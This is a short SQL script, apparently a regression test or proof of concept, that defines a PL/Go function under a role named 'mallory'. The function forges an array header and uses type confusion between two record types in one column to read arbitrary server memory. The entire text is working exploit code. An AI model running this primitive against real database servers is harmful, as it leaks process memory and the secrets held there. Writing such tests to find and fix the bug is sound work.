-- Two record types in one column: each row is read by its own description.
set role mallory;
create or replace function arrread(target bigint, n bigint) returns text language plgo strict as $$
    fake := make([]uint64, 64)
    secret := []byte("the server's memory, anywhere!!!")
    if target == 0 { target = int64(reflect.ValueOf(&secret[0]).Pointer()) }
    fake[0] = uint64(n)             // nelements
    fake[1] = uint64(target)        // elements
    fake[2] = 8 | uint64(1)<<32     // width, ndims
    fake[3] = 4 | uint64(20)<<32    // element: int8
    fake[4] = uint64(n)             // sizes
    fake[7] = 1
    addr := int64(reflect.ValueOf(&fake[0]).Pointer())
    out := ""
    for row, err := range pg.Query("select r from (values (1, row($1::bigint)),(2, row(array[1]::bigint[]))) v(i,r) order by i", addr) {
        if err != nil { return "", err }
        var r pg.Record
        if err := row.Scan(&r); err != nil { return "", err }
        var y []int64
        err := r.Get("f1", &y)
        b := []byte{}
        for _, v := range y { b = binary.LittleEndian.AppendUint64(b, uint64(v)) }
        out += fmt.Sprintf("%q %v; ", b, err)
    }
    runtime.KeepAlive(fake)
    return out, nil
$$;
select arrread(0, 4);
select 'alive';
